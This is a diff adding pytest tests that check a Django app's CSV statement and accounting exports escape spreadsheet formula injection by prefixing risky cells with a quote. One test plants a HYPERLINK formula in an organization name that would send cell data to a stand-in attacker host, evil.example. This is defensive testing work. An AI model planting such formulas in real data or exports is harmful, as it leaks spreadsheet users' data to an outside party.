@@ -129,3 +129,34 @@ def test_pdf_renders_and_rasterises(demo, tmp_path):
     assert lightest == 255 and darkest < 128, "the page is blank: nothing was drawn on it"
     image.save(tmp_path / "page.png")  # to look at when the test is run with --basetemp
     assert (tmp_path / "page.png").read_bytes().startswith(b"\x89PNG")
+
+
+def test_exports_neutralise_spreadsheet_formulas_in_names(demo):
+    # given an organization and an agent whose names a spreadsheet would run as formulas
+    from core.models import User
+
+    elektro = demo.organization("wysylki", "Elektro-Mat")
+    entry = _log(demo, "wysylki", "Elektro-Mat", "remote", at(2026, 5, 4, 9), 475)
+    Organization.objects.filter(pk=elektro.pk).update(name='=HYPERLINK("http://evil.example/?x="&A1,"Bilans")',
+                                                      tax_id="+48123")
+    User.objects.filter(pk=entry.agent.user_id).update(first_name="@SUM(1+1)", last_name="")
+    tenant = demo.tenant("wysylki")
+    statement = statement_generate(tenant=tenant, organization=Organization.objects.get(pk=elektro.pk),
+                                   month=date(2026, 5, 1))
+
+    # when they are exported, then each such cell starts with a quote and numbers stay numbers
+    rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
+    assert {r["organization"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Bilans")'}
+    assert {r["tax_id"] for r in rows} == {"'+48123"}
+    [export] = csv.DictReader(io.StringIO(accounting_csv(tenant=tenant, month=date(2026, 5, 1))))
+    assert export["organization"].startswith("'=") and export["agent"] == "'@SUM(1+1)"
+    assert export["net"] == "140.00"
+
+
+def test_the_csv_cell_rule():
+    from core.csv_export import cell
+
+    for dangerous in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-2+3"):
+        assert cell(dangerous) == "'" + dangerous
+    for harmless in ("Bilans", "", "1+1", "-12.50", "-3", "a=b", 12, None):
+        assert cell(harmless) == harmless
